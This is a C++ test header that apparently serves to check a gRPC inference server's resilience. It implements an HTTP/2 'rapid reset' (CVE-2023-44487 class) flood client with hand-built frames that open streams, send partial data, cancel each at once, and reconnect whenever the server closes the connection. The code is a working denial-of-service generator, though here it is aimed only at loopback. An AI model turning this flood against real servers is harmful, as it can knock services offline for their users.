// An HTTP/2 "rapid reset" attacker (the CVE-2023-44487 class) for tests of the gRPC
// transport: over one connection at a time it opens ModelInfer streams, sends a little
// DATA and resets each stream at once, as fast as the socket takes it. Frames are
// written by hand (HPACK literals without Huffman) so nothing in the way is polite.
// When the server closes the connection it reconnects, as an attacker would, and
// counts the closes. Not thread-safe; run it on its own thread.
#pragma once

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <string>
#include <string_view>
#include <thread>

namespace hiedge::testing {

struct RapidResetReport {
  int64_t streams_sent = 0;        // HEADERS + DATA + RST_STREAM triples written.
  int64_t connections = 0;         // Connections opened (the first included).
  int64_t connections_closed = 0;  // Closed by the server (GOAWAY, EOF or reset).
};

class RapidResetAttacker {
 public:
  // `token` empty: no authorization header (an unauthenticated attacker).
  RapidResetAttacker(int port, std::string token) : port_(port), token_(std::move(token)) {}

  // Sends `streams` streams spread evenly over `duration` (as fast as possible when the
  // socket is slower), then returns. `stop` ends it early.
  RapidResetReport Run(int64_t streams, std::chrono::milliseconds duration,
                       const std::atomic<bool>* stop = nullptr) {
    RapidResetReport report;
    const auto start = std::chrono::steady_clock::now();
    constexpr int kBatch = 50;  // Streams per write.
    while (report.streams_sent < streams && !(stop && stop->load())) {
      if (fd_ < 0 && !Connect(&report)) {
        std::this_thread::sleep_for(std::chrono::milliseconds(1));
        continue;
      }
      // Pace: streams due by now.
      const double elapsed =
          std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
      const double total = std::chrono::duration<double>(duration).count();
      const int64_t due =
          total <= 0 ? streams : static_cast<int64_t>(streams * std::min(1.0, elapsed / total));
      if (report.streams_sent >= due) {
        Drain(&report, 1);
        continue;
      }
      std::string out;
      for (int i = 0; i < kBatch && report.streams_sent < streams; ++i, ++report.streams_sent) {
        AppendStream(&out);
      }
      if (!SendAll(out)) Close(&report);
      Drain(&report, 0);
    }
    if (fd_ >= 0) ::close(fd_);
    fd_ = -1;
    return report;
  }

 private:
  static void AppendFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
                          std::string_view payload) {
    const uint32_t n = static_cast<uint32_t>(payload.size());
    const char head[9] = {static_cast<char>(n >> 16),
                          static_cast<char>(n >> 8),
                          static_cast<char>(n),
                          static_cast<char>(type),
                          static_cast<char>(flags),
                          static_cast<char>((stream >> 24) & 0x7f),
                          static_cast<char>(stream >> 16),
                          static_cast<char>(stream >> 8),
                          static_cast<char>(stream)};
    out->append(head, 9);
    out->append(payload);
  }
  // HPACK integer with a 7-bit prefix (the string-length form, H = 0).
  static void AppendLength(std::string* out, size_t n) {
    if (n < 127) {
      out->push_back(static_cast<char>(n));
      return;
    }
    out->push_back(static_cast<char>(127));
    n -= 127;
    while (n >= 128) {
      out->push_back(static_cast<char>((n % 128) | 128));
      n /= 128;
    }
    out->push_back(static_cast<char>(n));
  }
  static void AppendHeader(std::string* block, std::string_view name, std::string_view value) {
    block->push_back(0);  // Literal header field without indexing, new name.
    AppendLength(block, name.size());
    block->append(name);
    AppendLength(block, value.size());
    block->append(value);
  }

  void AppendStream(std::string* out) {
    std::string block;
    AppendHeader(&block, ":method", "POST");
    AppendHeader(&block, ":scheme", "http");
    AppendHeader(&block, ":path", "/inference.GRPCInferenceService/ModelInfer");
    AppendHeader(&block, ":authority", "127.0.0.1");
    AppendHeader(&block, "content-type", "application/grpc");
    AppendHeader(&block, "te", "trailers");
    if (!token_.empty()) AppendHeader(&block, "authorization", "Bearer " + token_);
    AppendFrame(out, 0x1, 0x4, stream_id_, block);  // HEADERS, END_HEADERS.
    // A gRPC message prefix announcing 100 bytes, and 10 of them.
    const std::string data(
        "\0\0\0\0\x64"
        "0123456789",
        15);
    AppendFrame(out, 0x0, 0x0, stream_id_, data);
    AppendFrame(out, 0x3, 0x0, stream_id_, std::string_view("\0\0\0\x08", 4));  // CANCEL.
    stream_id_ += 2;
  }

  bool Connect(RapidResetReport* report) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(port_));
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
      ::close(fd_);
      fd_ = -1;
      return false;
    }
    ++report->connections;
    stream_id_ = 1;
    std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    AppendFrame(&hello, 0x4, 0x0, 0, "");  // Our SETTINGS (defaults).
    AppendFrame(&hello, 0x4, 0x1, 0, "");  // ACK of the server's (sent unread).
    if (!SendAll(hello)) {
      Close(report);
      return false;
    }
    return true;
  }
  void Close(RapidResetReport* report) {
    if (fd_ < 0) return;
    ::close(fd_);
    fd_ = -1;
    ++report->connections_closed;
  }
  bool SendAll(std::string_view bytes) {
    while (!bytes.empty()) {
      pollfd p{fd_, POLLOUT, 0};
      if (::poll(&p, 1, 2000) <= 0 || (p.revents & (POLLERR | POLLHUP))) return false;
      Drain(nullptr, 0);
      const ssize_t n = ::send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) continue;
      if (n <= 0) return false;
      bytes.remove_prefix(static_cast<size_t>(n));
    }
    return true;
  }
  // Reads and discards what the server sent; notes a GOAWAY or EOF as a close.
  void Drain(RapidResetReport* report, int wait_ms) {
    if (fd_ < 0) return;
    char buffer[65536];
    pollfd p{fd_, POLLIN, 0};
    while (::poll(&p, 1, wait_ms) > 0) {
      wait_ms = 0;
      const ssize_t n = ::recv(fd_, buffer, sizeof(buffer), MSG_DONTWAIT);
      if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) {
        if (report)
          Close(report);
        else
          closed_pending_ = true;
        return;
      }
      if (n < 0) return;
    }
    if (closed_pending_ && report) {
      closed_pending_ = false;
      Close(report);
    }
  }

  int port_;
  std::string token_;
  int fd_ = -1;
  uint32_t stream_id_ = 1;
  bool closed_pending_ = false;
};

}  // namespace hiedge::testing
